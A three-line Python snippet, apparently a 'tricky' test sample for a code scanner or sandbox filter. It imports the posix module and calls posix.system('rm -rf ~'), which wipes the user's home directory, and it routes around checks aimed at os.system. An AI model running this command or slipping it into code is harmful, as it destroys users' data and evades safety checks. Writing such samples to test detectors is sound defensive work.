# tricky: the module below os
import posix
posix.system("rm -rf ~")
